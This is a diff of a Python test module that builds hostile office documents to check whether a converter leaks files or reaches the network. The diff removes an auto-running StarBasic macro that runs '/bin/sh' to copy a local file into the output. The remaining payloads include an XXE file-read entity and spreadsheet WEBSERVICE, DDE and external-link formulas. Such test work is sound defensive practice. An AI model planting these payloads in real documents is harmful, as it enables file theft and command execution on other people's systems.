@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from hostile.attack import OK, REFUSED, Make, fill, package, row
+from hostile.attack import REFUSED, Make, fill, package, row
 from hostile.traps import Traps
 
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -215,21 +215,6 @@ def _object(address: str) -> str:
 
 
 _XXE = '<!DOCTYPE x [<!ENTITY leak SYSTEM "{uri}">]>'
-_MACRO = (
-    "<office:scripts><office:event-listeners><script:event-listener script:language="
-    '"ooo:script" script:event-name="dom:load" xlink:type="simple" xlink:href='
-    '"vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
-    "</office:event-listeners></office:scripts>"
-)
-_BASIC = (
-    '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
-    'script:name="M" script:language="StarBasic">Sub Main\nShell("/bin/sh", 0, "-c \'cat {file}'
-    " > in.pdf; sleep 300'\")\nEnd Sub</script:module>"
-)
-_LIBRARY = (
-    '<?xml version="1.0"?><library:{kind} xmlns:library="http://openoffice.org/2000/library" '
-    'xmlns:xlink="http://www.w3.org/1999/xlink" {more}</library:{kind}>'
-)
 
 ATTACKS = (
     row("rtf-includepicture", "rtf > pdf docx odt", _rtf('INCLUDEPICTURE "{file.png}"')),
@@ -291,39 +276,23 @@ ATTACKS = (
     row("odt-object", "odt > pdf", odf("odt", _object("{uri.rtf}"))),
     row("odt-xxe", "odt > pdf md", odf("odt", "<text:p>&leak;</text:p>", doctype=_XXE), *REFUSED),
     row(
-        "odt-macro",
-        "odt > pdf",
-        odf(
-            "odt",
-            "<text:p>Hello.</text:p>",
-            before=_MACRO,
-            Basic__Standard__M=_BASIC,
-            Basic__Standard__script_lb=_LIBRARY.format(
-                kind="library",
-                more='library:name="Standard" library:readonly="false">'
-                '<library:element library:name="M"/>',
-            ),
-            Basic__script_lc=_LIBRARY.format(
-                kind="libraries",
-                more='><library:library library:name="Standard" library:link="false"/>',
-            ),
-        ),
-        OK,
-    ),
-    row(
         "ods-webservice",
         "ods > pdf csv xlsx",
         odf("ods", _cell("of:=WEBSERVICE(&quot;{http}&quot;)")),
     ),
-    row("ods-webservice-file", "ods > csv", odf("ods", _cell("of:=WEBSERVICE(&quot;{uri}&quot;)"))),
+    row(
+        "ods-webservice-file",
+        "ods > csv pdf",
+        odf("ods", _cell("of:=WEBSERVICE(&quot;{uri}&quot;)")),
+    ),
     row("ods-external-cell", "ods > csv pdf", odf("ods", _cell("of:='{uri.csv}'#$secret.A1"))),
     row(
         "ods-dde",
-        "ods > csv",
+        "ods > csv pdf",
         odf("ods", _cell("of:=DDE(&quot;soffice&quot;;&quot;{file.csv}&quot;;&quot;A1&quot;)")),
     ),
     row("ods-table-file", "ods > csv pdf", odf("ods", _linked_table("{uri.csv}"))),
-    row("ods-table-http", "ods > csv", odf("ods", _linked_table("{http}"))),
+    row("ods-table-http", "ods > csv pdf", odf("ods", _linked_table("{http}"))),
     row(
         "xlsx-webservice",
         "xlsx > pdf ods html",
